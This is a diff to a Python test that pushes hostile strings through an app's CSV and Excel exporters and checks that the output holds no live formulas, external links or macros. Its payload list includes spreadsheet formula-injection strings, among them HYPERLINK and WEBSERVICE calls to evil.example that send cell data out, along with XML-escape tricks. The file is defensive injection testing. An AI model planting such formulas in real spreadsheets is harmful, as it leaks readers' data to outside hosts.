@@ -6,18 +6,24 @@ import random
 import re
 import tempfile
 import zipfile
-from collections.abc import Iterator, Mapping
+from collections.abc import Iterator
 from functools import partial
+from operator import itemgetter
 from pathlib import Path
 from xml.etree import ElementTree
 
 from bench.bars import Bar, Result, share
 from bot.commands.template import template
 from bot.documents import delimited, workbooks
-from bot.making.work import MAKES
-from domain.operations.imports import Changes, Entry
+from bot.documents.list_workbooks import write_list
+from bot.documents.sheets import ListColumn
+from bot.making.kinds import IMPORTABLE, MAKES
+from bot.making.lists import ListRequest
+from bot.making.writing import write_csv, write_workbook
+from domain.operations.imports import Changes, Entry, ImportedVisit, Support
 from domain.people.organisations import Organisation, OrganisationKind
-from domain.people.people import Appointment, Role
+from domain.people.people import Appointment, Person, Role
+from domain.visits.visits import Type
 from storage.engine.database import Database
 from storage.store import Store
 from tests import databases
@@ -33,9 +39,10 @@ BODIES = (
     *('HYPERLINK("http://evil.example?x="&A1,"Open")', 'WEBSERVICE("http://evil.example")', ""),
     *("<f>1+1</f>", '</t></is></c><c r="A1"><f>1</f>', "]]>", "&#61;1+1", "_x003D_1", '","=1+1'),
 )
-# What a validation names and no cell counts: where a start sheet's drop-downs lie, and bounds.
-OWN = re.compile(r"Lists!\$([A-Z]{1,2})\$1:\$\1\$\d+|\d+")
-VALIDATES = ("formula1", "formula2")
+# What a validation names and no cell counts: where a start sheet's drop-downs lie, and bounds; and
+# what a sheet of a list names: its headings and first columns.
+OWN = re.compile(r"Lists!\$([A-Z]{1,2})\$1:\$\1\$\d+|\d+|('[^'\[\]]{1,31}')!\$A:\$B,\2!\$1:\$1")
+NAMES = ("formula1", "formula2", "definedName")
 # Parts and elements with which a workbook reaches outside itself, or counts for itself.
 OUTSIDE = ("externallink", "vbaproject", "macrosheet", "connections", "querytable", "embeddings")
 COUNTS = ("f", "ddeLink", "oleLink", "hyperlink", "definedName", "webPublishItem")
@@ -48,7 +55,7 @@ def run(size: float, seed: int) -> Result:
     files, found = len(live), {name: cells for name, cells in live.items() if cells}
     told = "; ".join(f"{name}: {len(cells)}, {cells[0]!r}" for name, cells in found.items())
     seen = f"{len(strings)} strings in {files} kinds of file: {sum(map(len, found.values()))} live"
-    return Result(f"{seen} ({told})" if told else seen, not found and files >= len(MAKES) + 4)
+    return Result(f"{seen} ({told})" if told else seen, not found and files >= 2 * len(MAKES) + 4)
 
 
 def hostile(count: int, dice: random.Random) -> list[str]:
@@ -64,20 +71,43 @@ def _made(strings: list[str]) -> Iterator[tuple[str, bytes]]:
     header, *rows = (strings[at : at + COLUMNS] for at in range(0, len(strings), COLUMNS))
     yield "table.csv", delimited.write(header, rows)
     yield "table.xlsx", workbooks.write(header, rows)
-    widths: Mapping[str, int] = dict.fromkeys(header, WIDTHS)
-    yield "list.xlsx", workbooks.list_workbook(widths, rows, "List")
+    yield "list.xlsx", _list(header, rows)
     with tempfile.TemporaryDirectory() as folder:
         database = databases.started(Path(folder))
         database.write_now(lambda store: store.imports.write(_named(strings), NOW))
         yield "start.xlsx", _start_sheet(database, Path(folder) / "start.xlsx")
-        for kind, read in MAKES.items():
-            document = database.read_now(partial(read, NOW))()
-            yield f"{kind}: {document.name}", document.content
+        for kind in MAKES:
+            yield f"{kind}.xlsx", database.read_now(partial(_file, kind, as_table=False))
+            yield f"{kind}.csv", database.read_now(partial(_file, kind, as_table=True))
         database.close()
 
 
+def _file(kind: str, store: Store, *, as_table: bool) -> bytes:
+    """A list as it is made for whoever may read all of it."""
+    out, list_ = io.BytesIO(), MAKES[kind]
+    roles = frozenset({Appointment(Role.OFFICER, None), Appointment(Role.LEADER, None)})
+    wanted = ListRequest(Person(1, "Samira Iqbal", "", roles), NOW)
+    if as_table:
+        write_csv(IMPORTABLE.get(kind, list_.table), wanted, store, out)
+    else:
+        write_workbook(list_, wanted, store, out)
+    return out.getvalue()
+
+
+def _list(header: list[str], rows: list[list[str]]) -> bytes:
+    columns = [
+        ListColumn(word, word, WIDTHS, itemgetter(place)) for place, word in enumerate(header)
+    ]
+    out = io.BytesIO()
+    write_list(out, header[0], columns, iter(rows), lambda _rows: [(header[1], header[2])])
+    return out.getvalue()
+
+
 def _named(strings: list[str]) -> Changes:
-    """People, schools and trusts with these names, as far as the database takes them."""
+    """People, schools and support of these names, and records of these words.
+
+    As far as the database takes them.
+    """
     kinds = (OrganisationKind.SCHOOL, OrganisationKind.TRUST)
     told = [text.encode("utf-8", "replace").decode().replace("\0", "") for text in strings]
     places = tuple(
@@ -88,7 +118,15 @@ def _named(strings: list[str]) -> Changes:
         Entry(-n, f"{n}@{DOMAIN}", text, frozenset({Appointment(Role.LEADER, -n)}))
         for n, text in enumerate(told, 1)
     )
-    return Changes(organisations=places, people=people)
+    deployments = tuple(
+        Support(-n, -n, text, frozenset({-n}), TODAY, objectives=(text,), programme=text)
+        for n, text in enumerate(told, 1)
+    )
+    visits = tuple(
+        ImportedVisit(-n, -n, TODAY, Type.VISIT, 60, did=text, next_step=text)
+        for n, text in enumerate(told, 1)
+    )
+    return Changes(organisations=places, people=people, deployments=deployments, visits=visits)
 
 
 def _start_sheet(database: Database[Store], path: Path) -> bytes:
@@ -116,9 +154,9 @@ def live_in_workbook(content: bytes) -> list[str]:
     found = links + [name for name in names if any(word in name.lower() for word in OUTSIDE)]
     for element in (each for tree in trees for each in tree.iter()):
         tag = element.tag.rpartition("}")[2]
-        own = tag in VALIDATES and OWN.fullmatch(element.text or "")
-        counts = tag in COUNTS or element.get("t") == "str"
-        if counts or (tag.startswith("formula") and not own):
+        own = tag in NAMES and OWN.fullmatch(element.text or "")
+        counts = tag in COUNTS or tag.startswith("formula") or element.get("t") == "str"
+        if counts and not own:
             found.append(f"{tag} {element.text or ''}"[:80])
     return found
 
